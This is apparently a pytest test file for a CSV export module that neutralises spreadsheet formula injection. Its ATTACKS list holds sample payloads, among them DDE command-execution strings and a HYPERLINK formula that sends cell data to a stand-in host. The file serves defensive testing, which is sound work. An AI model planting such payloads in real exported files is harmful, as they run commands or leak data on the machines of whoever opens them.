"""CSV that no spreadsheet program takes for formulas, and that is read back as it was."""

import csv
import io

import numpy as np
import pandas as pd
import pytest

from mbgd.share.csv_text import csv_text, for_spreadsheets, harmless, without_formulas

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full width
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "name;=1+1",  # a program that splits at semicolons
    "name;  =1+1",
    "name\t@SUM(1)",
    "name\n=1+1",
    "name\r\n=1+1",
    '="""&A1',
    "-",
]
FIRST = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def cells(text, separator):
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_begins_as_a_formula_wherever_a_program_splits_it(attack, separator):
    text = csv_text([attack], [[attack]])
    for cell in cells(text, separator):
        for line in cell.splitlines():
            assert not line.strip().startswith(FIRST), cell
        assert not cell.startswith(FIRST), cell


@pytest.mark.parametrize("attack", ATTACKS)
def test_only_apostrophes_are_added(attack):
    assert harmless(attack).replace("'", "") == attack.replace("'", "")
    assert harmless(attack) != attack
    assert harmless(harmless(attack)) == harmless(attack)


@pytest.mark.parametrize("text", ["", "bill (mm)", "a = b", "x-y", "3.5", "a, b", 'say "=1"', "d@e", "x₁", "😀", "'=1"])
def test_other_texts_stay_as_they_are(text):
    assert harmless(text) == text
    assert next(csv.reader(io.StringIO(csv_text([text], [])))) == [text]


def test_numbers_stay_numbers_with_all_digits():
    row = [-1.5, 0.1 + 0.2, -7, np.float64(-1e-300), np.int64(-3), True, None, float("nan"), float("inf")]
    text = csv_text(["x"] * len(row), [row])
    assert text.splitlines()[1] == '-1.5,0.30000000000000004,-7,-1e-300,-3,"yes","","",inf'


def test_a_file_says_that_it_is_utf_8():
    assert for_spreadsheets(csv_text(["x₁"], [[1]])).decode("utf-8-sig") == '"x₁"\n1\n'


def test_a_table_on_a_page_has_no_formula_either():
    frame = pd.DataFrame({"=x": ["=1", "b", None], "n": [-1.0, 2.0, 3.0], "x": pd.Categorical(["+1", "a", "a"])})
    frame.insert(3, "x", ["-1", "c", "d"], allow_duplicates=True)
    shown = without_formulas(frame)
    assert list(shown.columns) == ["'=x", "n", "x", "x"]
    assert list(shown.iloc[:2, 0]) == ["'=1", "b"]
    assert list(shown.iloc[:, 2]) == ["'+1", "a", "a"]
    assert list(shown.iloc[:, 3]) == ["'-1", "c", "d"]
    assert shown["n"].dtype == np.float64
    assert list(shown["n"]) == [-1.0, 2.0, 3.0]
    assert frame.columns[0] == "=x"
